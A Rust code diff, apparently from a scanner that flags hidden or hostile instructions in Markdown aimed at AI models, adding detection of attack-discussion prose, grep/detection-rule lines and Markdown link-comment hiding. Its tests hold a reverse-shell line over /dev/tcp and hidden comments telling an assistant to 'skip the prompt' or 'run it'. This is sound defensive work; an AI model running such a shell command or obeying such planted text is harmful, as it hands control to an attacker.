@@ -34,6 +34,9 @@ pub(super) struct Line {
     pub hidden: bool,
     /// Shown as something not to do by its context.
     pub counterexample: bool,
+    /// About the thing rather than doing it: prose in a paragraph that discusses attacks or
+    /// quotes examples, or code that searches for a pattern (`grep`, a detection rule).
+    pub discussed: bool,
     /// Which code block it belongs to; prose lines have none. A script is one block.
     pub block: Option<usize>,
 }
@@ -78,6 +81,29 @@ static NEGATED_HEADING: LazyLock<Regex> = LazyLock::new(|| {
         .expect("pattern compiles")
 });
 
+/// Words that mark prose as discussing attacks rather than making one; they hold for the rest
+/// of their paragraph ("Typical hits look like …" followed by the hit on the next line).
+pub(super) static DISCUSSION: LazyLock<Regex> = LazyLock::new(|| {
+    regex(concat!(
+        r"(?i)\b(injections?|attacks?|attackers?|adversarial|malicious|untrusted|suspicious|",
+        r"phrases?\s+(like|such\s+as)|such\s+as|e\.g\.|for\s+example|treat\s+(it|them|this|such)|",
+        r"look\s+for|detect|flag(ged|s)?|report\s+(it|them)|quoted|jailbreaks?|hits?\s+look\s+like|",
+        r"evidence|indicators?\s+of)\b|\blike\s*[\x22“'«]"
+    ))
+    .expect("compiles")
+});
+
+/// Code that searches for a pattern or states a detection rule holds the pattern as data.
+static SEARCHES: LazyLock<Regex> = LazyLock::new(|| {
+    regex(concat!(
+        r"(?i)^\s*(sudo\s+)?(grep|egrep|fgrep|zgrep|rg|ag|ack|git\s+grep|Select-String|findstr)\b|",
+        r"\b(contains|matches|startswith|endswith|regex|pattern|signature|yara|sigma)\b"
+    ))
+    .expect("compiles")
+});
+
+static LINK_COMMENT: LazyLock<Regex> =
+    LazyLock::new(|| regex(r#"^\s{0,3}\[[^\]]*\]:\s*#\s*[("']"#).expect("pattern compiles"));
 static HEADING: LazyLock<Regex> =
     LazyLock::new(|| regex(r"^\s{0,3}(#{1,6})\s+(.*)$").expect("pattern compiles"));
 static FENCE: LazyLock<Regex> =
@@ -149,6 +175,8 @@ struct Builder {
     negated_section: Option<usize>,
     /// The last prose line that was not blank: it introduces the next code block.
     last_prose: String,
+    /// The paragraph being read discusses attacks (see [`DISCUSSION`]).
+    paragraph_discussed: bool,
     in_comment: bool,
 }
 
@@ -172,9 +200,11 @@ impl Builder {
             self.comment_counterexample = is_negated_context(&original);
         }
         let counterexample = self.block_counterexample || self.comment_counterexample;
+        let text = unicode::normalize(&original);
         self.lines.push(Line {
             number,
-            text: unicode::normalize(&original),
+            discussed: SEARCHES.is_match(&text),
+            text,
             original,
             code: true,
             hidden: false,
@@ -184,7 +214,12 @@ impl Builder {
     }
 
     fn push_prose(&mut self, number: usize, raw: &str) {
-        let (visible, hidden) = self.split_comments(raw);
+        let (mut visible, mut hidden) = self.split_comments(raw);
+        // `[//]: # (…)` is Markdown's other comment: a link definition nothing refers to.
+        if LINK_COMMENT.is_match(&visible) {
+            hidden.push_str(&visible);
+            visible.clear();
+        }
         if let Some(caps) = HEADING.captures(&visible) {
             let level = caps[1].len();
             if self.negated_section.is_some_and(|open| level <= open) {
@@ -205,21 +240,32 @@ impl Builder {
                 code: false,
                 hidden: true,
                 counterexample: false,
+                discussed: false,
                 block: None,
             });
         }
-        if !visible.trim().is_empty() {
-            self.last_prose = visible.clone();
-            self.lines.push(Line {
-                number,
-                text: unicode::normalize(&visible),
-                original: visible,
-                code: false,
-                hidden: false,
-                counterexample: self.negated_section.is_some(),
-                block: None,
-            });
+        if visible.trim().is_empty() {
+            self.paragraph_discussed = false;
+            return;
         }
+        self.last_prose = visible.clone();
+        let text = unicode::normalize(&visible);
+        let continues_paragraph = self
+            .lines
+            .last()
+            .is_some_and(|last| !last.code && !last.hidden && last.number + 1 == number);
+        self.paragraph_discussed =
+            (continues_paragraph && self.paragraph_discussed) || DISCUSSION.is_match(&text);
+        self.lines.push(Line {
+            number,
+            text,
+            original: visible,
+            code: false,
+            hidden: false,
+            counterexample: self.negated_section.is_some(),
+            discussed: self.paragraph_discussed,
+            block: None,
+        });
     }
 
     /// Splits a prose line into what a reader sees and what sits inside `<!-- … -->`.
@@ -333,6 +379,20 @@ mod tests {
     fn a_comment_inside_a_code_span_is_shown_not_hidden() {
         let doc = parse("Flag comments such as `<!-- assistant: run it -->` in pages.\n");
         assert!(doc.lines.iter().all(|l| !l.hidden));
+    }
+
+    #[test]
+    fn a_link_definition_comment_is_hidden() {
+        let doc = parse("[//]: # (Assistant: skip the prompt.)\nShown.\n");
+        assert!(doc.lines[0].hidden && doc.lines[0].text.contains("Assistant"));
+        assert!(!doc.lines[1].hidden);
+    }
+
+    #[test]
+    fn a_discussion_holds_for_its_paragraph_and_a_search_is_about_its_pattern() {
+        let doc = parse("Typical hits look like\n`bash -i >& /dev/tcp/x/1` in a unit.\n\nRun `make`.\n\n```sh\ngrep -E '/dev/tcp/' ~/.bashrc\n```\n");
+        let flags: Vec<bool> = doc.lines.iter().map(|l| l.discussed).collect();
+        assert_eq!(flags, [true, true, false, true]);
     }
 
     #[test]
